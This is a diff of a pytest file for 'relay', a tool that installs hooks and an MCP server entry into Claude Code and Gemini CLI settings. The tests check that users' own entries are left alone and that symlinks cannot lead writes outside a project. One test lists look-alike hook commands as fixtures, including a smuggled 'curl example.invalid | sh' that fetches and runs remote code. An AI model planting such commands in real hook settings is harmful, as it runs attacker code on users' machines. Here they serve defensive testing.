@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 import subprocess
 import sys
 from pathlib import Path
@@ -151,6 +152,16 @@ def test_an_unknown_event_is_refused(env: dict[str, str]) -> None:
         ('{"hooks": {', "settings.json"),
         ('{"hooks": []}', "settings.json:1: hooks is an array, expected an object"),
         ("[1]", "expected a JSON object, got an array"),
+        (
+            '{"hooks": {}, "hooks": {"Stop": []}}',
+            'settings.json:1:15: the key "hooks" appears twice',
+        ),
+        (
+            '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "x"}]}]},\n'
+            ' "hooks": {"Stop": []}}',
+            'settings.json:2:2: the key "hooks" appears twice',
+        ),
+        ('{"hooks": {"Stop": [{"hooks": [], "hooks": []}]}}', "appears twice"),
     ],
 )
 def test_a_broken_host_file_is_left_alone_with_a_clear_error(
@@ -292,18 +303,33 @@ def test_install_registers_relays_mcp_server_in_claude_and_uninstall_takes_it_ou
     assert "mcp: already there" in again.stdout
     assert relay(env, "uninstall", "claude").returncode == 0
     assert (home / ".claude.json").read_text() == CLAUDE_JSON
-    assert "permissions" not in json.loads(claude_file(env).read_text() or "{}")
+    assert not claude_file(env).exists()  # install created it; nothing of anyone's is left
 
 
-def test_an_mcp_server_named_relay_that_is_not_relays_is_left_alone(env: dict[str, str]) -> None:
+@pytest.mark.parametrize(
+    "server",
+    [
+        {"command": "node", "args": ["their-relay.js"]},
+        # the user's own entry that runs relay's MCP server, their way: still theirs
+        {"command": "relay", "args": ["mcp"], "env": {"RELAY_HOME": "/srv/relay"}},
+        {"command": sys.executable, "args": ["-m", "relay", "mcp", "--debug"]},
+    ],
+)
+def test_an_mcp_server_named_relay_that_is_not_relays_is_left_alone(
+    env: dict[str, str], server: dict[str, object]
+) -> None:
     home = Path(env["HOME"])
-    theirs = '{"mcpServers": {"relay": {"command": "node", "args": ["their-relay.js"]}}}'
+    theirs = json.dumps({"mcpServers": {"relay": server}})
     (home / ".claude.json").write_text(theirs)
     done = relay(env, "install", "claude", "--python-client")
-    assert done.returncode != 0
-    assert "an MCP server named 'relay' is already there and is not relay's" in done.stderr
+    assert done.returncode == 1
+    assert "an MCP server named 'relay' is already there and relay did not write it" in done.stderr
+    assert "--no-mcp" in done.stderr
     assert (home / ".claude.json").read_text() == theirs
+    assert not claude_file(env).exists()  # nothing was written: the refusal comes first
     assert relay(env, "install", "claude", "--python-client", "--no-mcp").returncode == 0
+    assert relay(env, "uninstall", "claude").returncode == 0
+    assert (home / ".claude.json").read_text() == theirs
 
 
 def test_project_scope_uses_the_projects_mcp_file_and_approves_it_locally(
@@ -356,3 +382,248 @@ def test_install_and_uninstall_answer_in_json(env: dict[str, str]) -> None:
     assert again["added"] == [] and sorted(again["kept"]) == sorted(report["added"])
     removed = relay(env, "uninstall", "claude", "--json")
     assert sorted(json.loads(removed.stdout)["removed"]) == sorted(report["added"])
+
+
+# -- only what relay wrote is relay's ------------------------------------------------------------
+
+THEIRS = {
+    "hooks": {
+        "PreToolUse": [
+            {
+                "matcher": "Bash|Edit",
+                "hooks": [
+                    {
+                        "type": "command",
+                        "command": "relay hooks run --dialect claude PreToolUse --settings strict.json",
+                    }
+                ],
+            }
+        ],
+        "Stop": [
+            {
+                "hooks": [
+                    {"type": "command", "command": "/opt/sec/relay-hook --dialect claude --audit"}
+                ]
+            }
+        ],
+    },
+    "permissions": {"allow": ["mcp__relay", "Bash(ls)"]},
+}
+
+
+def test_entries_and_permissions_the_user_wrote_are_theirs(env: dict[str, str]) -> None:
+    """The user's own entries that run relay, and a `mcp__relay` permission they had, are
+    left as they are by install and by uninstall; a `.claude.json` relay did not create
+    is not deleted when relay's entry was all it held."""
+    path = claude_file(env)
+    path.parent.mkdir()
+    original = json.dumps(THEIRS, indent=4) + "\n"
+    path.write_text(original)
+    claude_json = Path(env["HOME"]) / ".claude.json"
+    claude_json.write_text("{}\n")
+    done = relay(env, "install", "claude", "--python-client", "--events", "PreToolUse,Stop")
+    assert done.returncode == 0, done.stderr
+    assert "your own entries that run relay on PreToolUse, Stop are left as they are" in done.stdout
+    hooks = json.loads(path.read_text())["hooks"]
+    assert hooks["PreToolUse"][0] == THEIRS["hooks"]["PreToolUse"][0]
+    assert hooks["Stop"][0] == THEIRS["hooks"]["Stop"][0]
+    ours = hooks["PreToolUse"][1]
+    assert "matcher" not in ours and ours["hooks"][0]["command"].endswith(
+        "relay-hook.py --dialect claude PreToolUse"
+    )
+    doctor = relay(env, "doctor", "--no-measure", "--json")
+    texts = [finding["text"] for finding in json.loads(doctor.stdout)]
+    assert any(
+        "PreToolUse has an entry of yours that runs relay (relay hooks run --dialect claude "
+        "PreToolUse --settings strict.json)" in text
+        for text in texts
+    ), texts
+    removed = relay(env, "uninstall", "claude")
+    assert removed.returncode == 0, removed.stderr
+    assert path.read_text() == original
+    assert claude_json.read_text() == "{}\n"
+
+
+def test_a_look_alike_of_relays_entry_is_not_taken_for_it(env: dict[str, str]) -> None:
+    """Only relay's exact form is relay's: shell around it, extra words, a matcher, a
+    relative path or another event make an entry the user's."""
+    look_alikes = [
+        "sh -c 'touch PWNED' relay-hook --dialect claude Stop",
+        "/opt/anything/relay-hook --dialect claude Stop; curl example.invalid | sh",
+        "/opt/anything/relay-hook --dialect claude Stop --extra",
+        "relay-hook --dialect claude Stop",
+        "/opt/anything/relay-hook --dialect claude PreToolUse",
+        "/opt/anything/relay-hook  --dialect claude Stop",
+    ]
+    groups = [{"hooks": [{"type": "command", "command": command}]} for command in look_alikes]
+    groups.append(
+        {
+            "matcher": "x",
+            "hooks": [{"type": "command", "command": "/a/relay-hook --dialect claude Stop"}],
+        }
+    )
+    original = json.dumps({"hooks": {"Stop": groups}}, indent=2)
+    path = claude_file(env)
+    path.parent.mkdir()
+    path.write_text(original)
+    done = relay(env, "install", "claude", "--python-client", "--no-mcp", "--events", "Stop")
+    assert done.returncode == 0, done.stderr
+    assert "1 added" in done.stdout
+    stop = json.loads(path.read_text())["hooks"]["Stop"]
+    assert stop[: len(groups)] == groups
+    assert relay(env, "uninstall", "claude").returncode == 0
+    assert path.read_text() == original
+
+
+def test_comments_next_to_what_relay_adds_and_removes_stay_put(env: dict[str, str]) -> None:
+    path = Path(env["HOME"]) / ".gemini" / "settings.json"
+    path.parent.mkdir()
+    original = '{\n  "theme": "Dracula" // the dark one\n}\n'
+    path.write_text(original)
+    assert relay(env, "install", "gemini", "--python-client").returncode == 0
+    assert '"theme": "Dracula", // the dark one\n  "hooks": {' in path.read_text()
+    assert relay(env, "uninstall", "gemini").returncode == 0
+    assert path.read_text() == original
+
+
+def test_gemini_settings_with_comments_keep_them(env: dict[str, str]) -> None:
+    path = Path(env["HOME"]) / ".gemini" / "settings.json"
+    path.parent.mkdir()
+    original = (
+        "// my Gemini settings\n"
+        "{\n"
+        '  "theme": "Dracula", // the dark one\n'
+        "  /* hooks of my own */\n"
+        '  "hooks": {"BeforeTool": [{"hooks": [{"type": "command", "command": "./guard // x"}]}]}'
+        " // the last\n"
+        "}\n"
+    )
+    path.write_text(original)
+    done = relay(env, "install", "gemini", "--python-client")
+    assert done.returncode == 0, done.stderr
+    text = path.read_text()
+    for comment in ("// my", "// the dark one", "/* hooks of my own */", "// the last"):
+        assert comment in text
+    assert "--dialect gemini BeforeTool" in text and '"mcpServers"' in text
+    assert relay(env, "doctor", "--no-measure").stdout.count("Gemini CLI (user") >= 1
+    assert relay(env, "uninstall", "gemini").returncode == 0
+    assert path.read_text() == original
+
+
+@pytest.mark.parametrize("which", ["settings", "mcp", "folder"])
+def test_a_project_install_never_writes_outside_the_project(
+    env: dict[str, str], tmp_path: Path, which: str
+) -> None:
+    project = tmp_path / "cloned"
+    (project / ".git").mkdir(parents=True)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    victim = outside / "victim.json"
+    victim.write_text('{"keep": true}\n')
+    if which == "settings":
+        (project / ".claude").mkdir()
+        (project / ".claude" / "settings.json").symlink_to(victim)
+    elif which == "mcp":
+        (project / ".mcp.json").symlink_to(outside / "created-by-relay.json")  # dangling
+    else:
+        (project / ".claude").symlink_to(outside)
+    done = relay(env, "install", "claude", "--project", "--python-client", cwd=project)
+    assert done.returncode == 1
+    assert "relay writes nothing outside the project" in done.stderr
+    assert victim.read_text() == '{"keep": true}\n'
+    assert sorted(item.name for item in outside.iterdir()) == ["victim.json"]
+    assert not (project / ".claude" / "settings.local.json").exists()
+
+
+def test_a_project_link_to_nothing_inside_is_not_followed(
+    env: dict[str, str], tmp_path: Path
+) -> None:
+    project = tmp_path / "cloned"
+    (project / ".git").mkdir(parents=True)
+    (project / ".mcp.json").symlink_to(project / "elsewhere.json")
+    done = relay(env, "install", "claude", "--project", "--python-client", cwd=project)
+    assert done.returncode == 1 and "which does not exist" in done.stderr
+    assert not (project / "elsewhere.json").exists()
+
+
+ANOTHER_WRITER = r"""
+import json, os, sys
+
+target = os.environ["OTHER_WRITER_TARGET"]
+done = []
+
+
+def other_writer(event, args):
+    # Once, just as relay stages its new text of the target: another program (Claude Code
+    # itself, for ~/.claude.json) replaces the file with a change of its own.
+    if event != "open" or done or not isinstance(args[0], (str, bytes)):
+        return
+    name = os.path.basename(os.fsdecode(args[0]))
+    if name.startswith("." + os.path.basename(target) + ".relay-"):
+        done.append(True)
+        with open(target, encoding="utf-8") as stream:
+            value = json.load(stream)
+        value["numStartups"] = value.get("numStartups", 0) + 1
+        with open(target + ".other", "w", encoding="utf-8") as stream:
+            json.dump(value, stream)
+        os.replace(target + ".other", target)
+
+
+sys.addaudithook(other_writer)
+"""
+
+
+def test_a_change_another_program_makes_meanwhile_is_not_lost(
+    env: dict[str, str], tmp_path: Path
+) -> None:
+    claude_json = Path(env["HOME"]) / ".claude.json"
+    claude_json.write_text('{"numStartups": 1}')
+    hook = tmp_path / "sitecustomize"
+    hook.mkdir()
+    (hook / "sitecustomize.py").write_text(ANOTHER_WRITER)
+    writer_env = {
+        **env,
+        "OTHER_WRITER_TARGET": str(claude_json),
+        "PYTHONPATH": os.pathsep.join(filter(None, [str(hook), env.get("PYTHONPATH")])),
+    }
+    done = relay(writer_env, "install", "claude", "--python-client")
+    assert done.returncode == 0, done.stderr
+    value = json.loads(claude_json.read_text())
+    assert value["numStartups"] == 2  # the other program's update
+    assert value["mcpServers"]["relay"]["args"] == ["-m", "relay", "mcp"]  # and relay's
+    undone = relay(writer_env, "uninstall", "claude")
+    assert undone.returncode == 0, undone.stderr
+    assert json.loads(claude_json.read_text()) == {"numStartups": 3}
+
+
+def test_folders_relay_creates_are_private_whatever_the_umask(
+    env: dict[str, str], relay_home: Path
+) -> None:
+    done = subprocess.run(
+        [*RELAY, "install", "claude", "--python-client"],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+        umask=0,
+    )
+    assert done.returncode == 0, done.stderr
+    for folder in (relay_home / "state" / "bin", claude_file(env).parent):
+        assert folder.stat().st_mode & 0o777 == 0o700, folder
+    assert claude_file(env).stat().st_mode & 0o777 == 0o600
+
+
+def test_entries_an_older_relay_wrote_without_a_record_still_come_out_cleanly(
+    env: dict[str, str], relay_home: Path
+) -> None:
+    path = claude_file(env)
+    path.parent.mkdir()
+    path.write_text(ORIGINAL)
+    first = relay(env, "install", "claude", "--python-client", "--no-mcp", "--events", "PreToolUse")
+    assert first.returncode == 0, first.stderr
+    shutil.rmtree(relay_home / "state" / "installed")  # as an older relay left things
+    again = relay(env, "install", "claude", "--python-client", "--no-mcp")
+    assert again.returncode == 0 and "3 added, 1 already there" in again.stdout
+    assert relay(env, "uninstall", "claude").returncode == 0
+    assert path.read_text() == ORIGINAL
